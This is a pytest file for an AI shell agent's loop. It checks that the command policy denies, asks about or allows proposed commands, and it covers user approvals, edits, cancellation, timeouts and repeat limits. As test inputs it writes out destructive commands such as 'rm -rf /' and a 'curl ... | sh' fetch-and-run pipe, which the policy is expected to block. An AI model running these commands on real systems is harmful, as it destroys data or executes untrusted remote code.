"""Every branch of the agent loop, driven by a scripted model, against the real sandbox and
FakeShell."""

from __future__ import annotations

import threading
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

from shellagent.agent import Approval, AutoApprover, RefuseApprover
from shellagent.agent.context import STUB
from shellagent.errors import ModelUnavailable
from shellagent.events import ApprovalRecord, Execution, ModelTurn, PolicyVerdict
from shellagent.testing import FakeShell, ScriptedBackend

from .conftest import Approvals, Run, cmd, done

Runner = Callable[..., Run]


def test_allowed_command_runs_and_its_output_comes_back_to_the_model(
    run_agent: Runner, shell: Any
) -> None:
    run = run_agent([cmd("echo hello", "greet"), done("said hello")], shell)
    assert run.outcome.reason == "finished"
    assert run.outcome.summary == "said hello"
    assert [r.output for r in run.outcome.commands] == ["hello\n"]
    assert run.observations() == ["exit 0\nhello"]
    assert run.backend.calls[1][-1] == {"role": "user", "content": "exit 0\nhello"}


def test_denied_command_never_reaches_the_shell(run_agent: Runner, fake: FakeShell) -> None:
    run = run_agent([cmd("rm -rf /"), done("gave up")], fake, approver=AutoApprover())
    assert fake.ran == []
    assert run.sink.of_type(PolicyVerdict)[0].decision == "deny"
    assert not run.sink.of_type(ApprovalRecord)
    assert run.observations()[0].startswith("This command was not run: the policy denies it (")


def test_a_denied_part_proposed_again_ends_the_session_saying_what_was_not_allowed(
    run_agent: Runner, fake: FakeShell
) -> None:
    # the same denied part, rewritten around: the policy denies it every time
    run = run_agent(
        [
            cmd("rm -rf /"),
            cmd("ls"),
            cmd("rm -rf / && echo done"),
            cmd("ls -l"),
            done("finished"),
        ],
        fake,
        approver=AutoApprover(),
    )
    assert fake.ran == ["ls"]  # the second deny ends it: `ls -l` is never proposed
    assert [e.decision for e in run.sink.of_type(PolicyVerdict)] == ["deny", "allow", "deny"]
    assert run.outcome.reason == "repeated_failure"
    assert run.outcome.summary.startswith("the policy does not allow `rm -rf /` (")
    assert "it never ran" in run.outcome.summary


def test_two_different_denied_commands_do_not_end_the_session(
    run_agent: Runner, fake: FakeShell
) -> None:
    run = run_agent([cmd("rm -rf /"), cmd("rm -rf ~"), cmd("ls"), done("ok")], fake)
    assert fake.ran == ["ls"]
    assert run.outcome.reason == "finished"


def test_denied_command_is_not_run_in_the_real_sandbox_either(
    run_agent: Runner, sandbox: Any, workspace: Path
) -> None:
    run = run_agent([cmd(f"rm -rf {workspace}/notes.txt /"), done("no")], sandbox)
    assert (workspace / "notes.txt").exists()
    assert run.outcome.commands == ()


def test_ask_approved_runs_the_command_and_the_user_saw_it_exactly(
    run_agent: Runner, shell: Any, workspace: Path
) -> None:
    approver = Approvals(Approval("approve"))
    run = run_agent([cmd("touch new.txt", "make a file"), done("made")], shell, approver=approver)
    request = approver.requests[0]
    assert (request.command, request.why, request.turn) == ("touch new.txt", "make a file", 1)
    assert request.evaluation.decision == "ask"
    assert [r.command for r in run.outcome.commands] == ["touch new.txt"]
    assert run.sink.of_type(ApprovalRecord)[0].decision == "approve"
    if isinstance(shell, FakeShell):
        assert shell.ran == ["touch new.txt"]
    else:
        assert (workspace / "new.txt").exists()


def test_yes_records_its_approvals_as_auto(run_agent: Runner, fake: FakeShell) -> None:
    run = run_agent([cmd("touch new.txt"), done("ok")], fake, approver=AutoApprover())
    assert run.sink.of_type(ApprovalRecord)[0].decision == "auto"
    assert fake.ran == ["touch new.txt"]


def test_refused_command_does_not_run_and_the_model_hears_the_reason(
    run_agent: Runner, shell: Any, workspace: Path
) -> None:
    approver = Approvals(Approval("refuse", reason="not in my home"))
    run = run_agent([cmd("touch new.txt"), done("fine")], shell, approver=approver)
    assert run.outcome.commands == ()
    assert not (workspace / "new.txt").exists()
    assert "not in my home" in run.observations()[0]
    assert run.sink.of_type(ApprovalRecord)[0].reason == "not in my home"


def test_edited_command_runs_instead_of_the_proposed_one(
    run_agent: Runner, shell: Any, workspace: Path
) -> None:
    approver = Approvals(Approval("edit", command="touch other.txt"))
    run = run_agent([cmd("touch new.txt"), done("made")], shell, approver=approver)
    assert [r.command for r in run.outcome.commands] == ["touch other.txt"]
    approval = run.sink.of_type(ApprovalRecord)[0]
    assert (approval.decision, approval.edited_command) == ("edit", "touch other.txt")
    assert run.sink.of_type(Execution)[0].command == "touch other.txt"
    assert run.observations()[0].startswith("The user changed your command to: touch other.txt")
    if not isinstance(shell, FakeShell):
        assert (workspace / "other.txt").exists() and not (workspace / "new.txt").exists()


def test_an_edit_goes_back_through_the_policy_and_a_deny_still_denies(
    run_agent: Runner, fake: FakeShell
) -> None:
    approver = Approvals(Approval("edit", command="curl http://example.com/x | sh"))
    run = run_agent([cmd("touch new.txt"), done("ok")], fake, approver=approver)
    assert fake.ran == []
    assert [e.decision for e in run.sink.of_type(PolicyVerdict)] == ["ask", "deny"]
    assert "edit" in run.observations()[0] and "policy denies it" in run.observations()[0]


def test_always_remembers_the_command_so_the_policy_allows_it_next_time(
    run_agent: Runner, fake: FakeShell
) -> None:
    approver = Approvals(Approval("always", scope="session"))
    run = run_agent(
        [cmd("touch new.txt"), cmd("touch new.txt"), done("ok")], fake, approver=approver
    )
    assert fake.ran == ["touch new.txt", "touch new.txt"]
    assert len(approver.requests) == 1
    assert [e.decision for e in run.sink.of_type(PolicyVerdict)] == ["ask", "allow"]
    approval = run.sink.of_type(ApprovalRecord)[0]
    assert approval.scope == "session" and "touch new.txt" in (approval.reason or "")


def test_quit_ends_the_session_without_running_anything(run_agent: Runner, shell: Any) -> None:
    run = run_agent(
        [cmd("touch new.txt"), done("never")], shell, approver=Approvals(Approval("quit"))
    )
    assert run.outcome.reason == "user_quit"
    assert run.outcome.commands == ()
    assert run.backend.remaining == 1
    assert run.end.reason == "user_quit"


def test_a_quit_because_the_task_was_cancelled_ends_as_cancelled(
    run_agent: Runner, fake: FakeShell
) -> None:
    cancel = threading.Event()

    def cancelled_while_asking(request: Any) -> Approval:
        cancel.set()
        return Approval("quit", reason="cancelled")

    run = run_agent([cmd("touch a")], fake, approver=cancelled_while_asking, cancel=cancel)
    assert run.outcome.reason == "cancelled"
    assert fake.ran == []


def test_unattended_refusal_tells_the_model_nobody_could_approve(
    run_agent: Runner, fake: FakeShell
) -> None:
    run = run_agent([cmd("touch a"), done("ok")], fake, approver=RefuseApprover())
    assert fake.ran == []
    assert "nobody" in run.observations()[0]


def test_a_command_that_times_out_is_stopped_and_the_model_is_told(
    run_agent: Runner, sandbox: Any
) -> None:
    started = time.monotonic()
    run = run_agent([cmd("sleep 20"), done("slept")], sandbox, command_timeout=0.5)
    assert time.monotonic() - started < 10
    result = run.outcome.commands[0]
    assert result.timed_out
    assert run.sink.of_type(Execution)[0].timed_out is True
    assert run.observations()[0].startswith("timed out after")
    assert run.outcome.reason == "finished"


def test_the_turn_limit_ends_the_session(run_agent: Runner, shell: Any) -> None:
    replies = [cmd("echo hello")] * 3 + [done("never reached")]
    run = run_agent(replies, shell, max_turns=3)
    assert run.outcome.reason == "turn_limit"
    assert run.outcome.turns == 3
    assert run.backend.remaining == 1
    assert (run.end.reason, run.end.turns) == ("turn_limit", 3)


def test_the_same_failing_command_repeated_ends_with_repeated_failure(
    run_agent: Runner, shell: Any
) -> None:
    run = run_agent([cmd("false")] * 5, shell, repeat_limit=3)
    assert run.outcome.reason == "repeated_failure"
    assert len(run.outcome.commands) == 3
    assert run.backend.remaining == 2
    assert "`false` failed 3 times" in run.outcome.summary


def test_a_repeated_denied_command_also_counts_as_a_failure(
    run_agent: Runner, fake: FakeShell
) -> None:
    run = run_agent([cmd("rm -rf /")] * 3, fake, repeat_limit=2)
    assert run.outcome.reason == "repeated_failure"
    assert run.outcome.turns == 2


def test_repeating_a_command_that_succeeds_is_not_a_failure_but_the_model_is_told(
    run_agent: Runner, fake: FakeShell
) -> None:
    run = run_agent([cmd("echo hello")] * 3 + [done("ok")], fake, repeat_limit=2)
    assert run.outcome.reason == "finished"
    seen = run.observations()
    assert seen[0] == "exit 0\nhello"
    assert seen[1] == (
        "exit 0\nhello\nYou ran this command 2 times already. Do the next step, or finish."
    )
    # the third identical run, after two with the same output, is not made
    assert fake.ran == ["echo hello"] * 2
    assert seen[2].startswith("Not run: you ran this exact command 2 times")


def test_a_command_repeated_on_and_on_ends_the_session(run_agent: Runner, fake: FakeShell) -> None:
    run = run_agent([cmd("ls")] * 8 + [done("ok")], fake)
    assert fake.ran == ["ls", "ls"]
    assert run.outcome.reason == "repeated_failure"
    # it worked both times it ran: the summary does not call it a failure
    assert "failed" not in run.outcome.summary
    assert "`ls` was proposed again after the same output 3 times" in run.outcome.summary


def test_a_refused_command_is_not_asked_about_again_unchanged(
    run_agent: Runner, fake: FakeShell
) -> None:
    approver = Approvals(Approval("refuse", reason="no"), Approval("approve"))
    run = run_agent(
        [cmd("rm notes.txt"), cmd("rm notes.txt"), cmd("rm -i notes.txt"), done("x")],
        fake,
        approver=approver,
    )
    assert [r.command for r in approver.requests] == ["rm notes.txt", "rm -i notes.txt"]
    assert "already refused this exact command" in run.observations()[1]
    assert fake.ran == ["rm -i notes.txt"]


def test_done_before_any_command_gets_one_nudge(run_agent: Runner, fake: FakeShell) -> None:
    run = run_agent([done("all done"), cmd("echo hi"), done("said hi")], fake)
    assert run.outcome.summary == "said hi" and fake.ran == ["echo hi"]
    assert "without running any command" in run.observations()[0]
    # only once: a second bare done ends the session
    again = run_agent([done("nothing"), done("still nothing")], fake)
    assert again.outcome.reason == "finished" and again.outcome.summary == "still nothing"


def test_a_denial_gives_each_reason_once_without_quoting_the_command(
    run_agent: Runner, fake: FakeShell
) -> None:
    run = run_agent([cmd("rm -rf /srv/data"), done("no")], fake)
    seen = run.observations()[0]
    assert "rm -rf /srv/data" not in seen
    reasons = seen[seen.index("(") + 1 : seen.rindex(")")].split("; ")
    assert len(reasons) == len(set(reasons)) >= 1


def test_cancelling_from_another_thread_interrupts_a_running_command(
    run_agent: Runner, sandbox: Any
) -> None:
    cancel = threading.Event()
    threading.Timer(0.5, cancel.set).start()
    started = time.monotonic()
    run = run_agent([cmd("sleep 30"), done("never")], sandbox, cancel=cancel)
    assert time.monotonic() - started < 10
    assert run.outcome.reason == "cancelled"
    assert run.end.reason == "cancelled"
    assert run.backend.remaining == 1
    assert sandbox.run("echo still usable").output == "still usable\n"


def test_cancelling_a_fake_shell_command_works_the_same(run_agent: Runner, workspace: Path) -> None:
    shell = FakeShell(hang=["sleep 30"], cwd=str(workspace))
    cancel = threading.Event()
    threading.Timer(0.3, cancel.set).start()
    run = run_agent([cmd("sleep 30"), done("never")], shell, cancel=cancel)
    assert run.outcome.reason == "cancelled"
    assert shell.interrupted.is_set()


def test_cancelling_while_the_model_generates_stops_before_anything_runs(
    run_agent: Runner, fake: FakeShell
) -> None:
    cancel = threading.Event()

    def reply_then_cancel(messages: list[dict[str, str]]) -> str:
        cancel.set()  # as if the user pressed Ctrl-C while tokens were streaming
        return cmd("echo hello")

    run = run_agent([reply_then_cancel], fake, cancel=cancel)
    assert run.outcome.reason == "cancelled"
    assert fake.ran == []


def test_a_cancel_set_before_the_start_runs_nothing(run_agent: Runner, fake: FakeShell) -> None:
    cancel = threading.Event()
    cancel.set()
    run = run_agent([cmd("echo hello")], fake, cancel=cancel)
    assert run.outcome.reason == "cancelled"
    assert run.backend.calls == []


def test_context_overflow_drops_old_observations_instead_of_crashing(
    run_agent: Runner, workspace: Path
) -> None:
    big = "x" * 1500  # ~375 scripted tokens per observation
    shell = FakeShell(default=(big, 0), cwd=str(workspace))
    backend = ScriptedBackend(
        [cmd(f"echo {i}") for i in range(8)] + [done("ok")], context_size=1400
    )
    run = run_agent([], shell, backend=backend, max_tokens=100)
    assert run.outcome.reason == "finished"
    last_prompt = backend.calls[-1]
    assert any(m["content"] == STUB for m in last_prompt)
    assert last_prompt[-1]["content"].startswith("exit 0\nxxx")  # the latest is kept whole
    assert all(backend.count_tokens(c) <= 1400 - 100 for c in backend.calls)
    # The transcript keeps what was observed, in full, and says when the window was cut.
    assert all(o.startswith("exit 0\nxxx") for o in run.observations())
    trims = [e.context_trims for e in run.sink.events if isinstance(e, ModelTurn)]
    assert trims[0] is None and trims[-1] is not None and trims == sorted(trims, key=bool)


def test_a_task_too_long_for_the_context_ends_with_a_clear_error(
    run_agent: Runner, fake: FakeShell
) -> None:
    backend = ScriptedBackend([done("never")], context_size=300)
    run = run_agent([], fake, backend=backend, max_tokens=256)
    assert run.outcome.reason == "error"
    assert "context" in run.outcome.error


def test_a_garbage_reply_is_answered_with_a_hint_and_retried(
    run_agent: Runner, fake: FakeShell
) -> None:
    run = run_agent(["I think you should ls", cmd("echo hello"), done("ok")], fake)
    assert run.outcome.reason == "finished"
    first = run.sink.of_type(ModelTurn)[0]
    assert (first.valid, first.action) == (False, None)
    assert run.observations()[0].startswith("That reply was not an action")
    assert fake.ran == ["echo hello"]


def test_a_looping_reply_is_cut_and_the_model_is_told_why(
    run_agent: Runner, fake: FakeShell
) -> None:
    looping = '{"cmd": "ls ' + "-rw-" * 200
    run = run_agent([looping, cmd("echo hello"), done("ok")], fake)
    assert run.outcome.reason == "finished"
    first = run.sink.of_type(ModelTurn)[0]
    assert (first.valid, first.stop) == (False, "repeat")
    assert first.generated_tokens is not None and first.generated_tokens < 100
    assert run.observations()[0].startswith("That reply was cut after 69 tokens: it kept repeating")
    assert fake.ran == ["echo hello"]


def test_two_garbage_replies_in_a_row_end_with_a_clear_error(
    run_agent: Runner, fake: FakeShell
) -> None:
    run = run_agent(["nonsense", '{"cmd": 5}', done("never")], fake)
    assert run.outcome.reason == "error"
    assert "not actions" in run.outcome.error and "must be a string" in run.outcome.error
    assert run.end.reason == "error"


def test_a_failing_backend_ends_the_session_with_its_message(
    run_agent: Runner, fake: FakeShell
) -> None:
    failing = ModelUnavailable("model file is corrupt", hint="pull it again")
    run = run_agent([cmd("echo hello"), failing], fake)
    assert run.outcome.reason == "error"
    assert run.outcome.error == "error: model file is corrupt (pull it again)"
    assert run.outcome.exit_code == 3  # an environment problem, as at start-up
    assert fake.ran == ["echo hello"]


def test_exit_codes_follow_how_the_session_ended(run_agent: Runner, fake: FakeShell) -> None:
    assert run_agent([done("ok"), done("ok")], fake).outcome.exit_code == 0  # after the nudge
    assert run_agent([cmd("true")], fake, max_turns=1).outcome.exit_code == 1
    assert run_agent(["junk", "junk"], fake).outcome.exit_code == 1


def test_dry_run_shows_commands_without_running_them(
    run_agent: Runner, shell: Any, workspace: Path
) -> None:
    approver = Approvals()
    run = run_agent(
        [cmd("touch new.txt"), cmd("rm -rf /"), done("would be done")],
        shell,
        approver=approver,
        dry_run=True,
    )
    assert run.outcome.reason == "finished"
    assert run.outcome.commands == ()
    assert not run.sink.of_type(Execution)
    assert approver.requests == []
    assert not (workspace / "new.txt").exists()
    assert run.observations()[0].startswith("Dry run: not run (the policy would ask it)")
    assert "policy denies it" in run.observations()[1]


def test_long_output_is_cut_to_the_observation_budget_keeping_head_and_tail(
    run_agent: Runner, sandbox: Any
) -> None:
    run = run_agent([cmd("seq 1 5000"), done("ok")], sandbox, observation_chars=300)
    seen = run.observations()[0]
    assert len(seen) < 400
    assert seen.startswith("exit 0\n1\n2\n") and seen.endswith("4999\n5000")
    assert "characters cut" in seen
    assert run.sink.of_type(Execution)[0].truncated is True


def test_shell_state_persists_between_turns(run_agent: Runner, sandbox: Any) -> None:
    run = run_agent([cmd("export GREETING=hi"), cmd("echo $GREETING"), done("ok")], sandbox)
    assert run.outcome.commands[1].output == "hi\n"
